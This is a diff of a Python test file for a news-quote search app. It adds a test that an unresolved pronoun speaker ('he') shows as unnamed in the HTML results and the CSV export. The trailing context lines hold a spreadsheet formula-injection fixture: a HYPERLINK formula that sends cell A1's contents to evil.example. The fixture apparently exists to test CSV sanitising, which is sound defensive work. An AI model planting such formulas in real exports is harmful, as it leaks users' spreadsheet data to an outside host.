@@ -206,6 +206,39 @@ def test_search_quote_hits_name_the_story_speaker(client: TestClient, corpus_rec
     assert "Ferreira" in {r["speaker_in_report"] for r in rows}
 
 
+PRONOUN_TEXT = '"The river is still rising," he said on Monday.\n'
+
+
+def test_search_unresolved_pronoun_is_no_name(tmp_path: Path) -> None:
+    """A quote whose "he" resolves to no one shows as unnamed, never as a speaker called "he"."""
+    said = PRONOUN_TEXT.index("The river")
+    content = Span(start=said, end=said + 26, text=PRONOUN_TEXT[said : said + 26])
+    he = PRONOUN_TEXT.index(" he ") + 1
+    record = ArticleRecord(
+        id="pronoun000000001",
+        source="pronoun.txt",
+        text=PRONOUN_TEXT,
+        published="2025-03-03",
+        quotes=[
+            Quote(
+                kind="direct",
+                content=[content],
+                speaker=Span(start=he, end=he + 2, text="he"),
+                speaker_type="unknown",
+            )
+        ],
+    )
+    db = tmp_path / "pronoun.db"
+    with open_store(db) as store:
+        store.ingest([record])
+    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
+        page = c.get("/search", params={"q": "river"}).text
+        rows = _csv(c, "/search/quotes.csv?q=river")
+    speaker = re.findall(r'<strong class="speaker">(.*?)</strong>', page, re.S)
+    assert [_visible(s) for s in speaker] == ["unnamed (“he”)"]
+    assert [(r["speaker"], r["speaker_in_report"]) for r in rows] == [("", "he")]
+
+
 # A report whose quote and speaker would run as formulas in a spreadsheet.
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FORMULA_TEXT = f'"{FORMULA}," said @Dr Vale on Monday.\n'
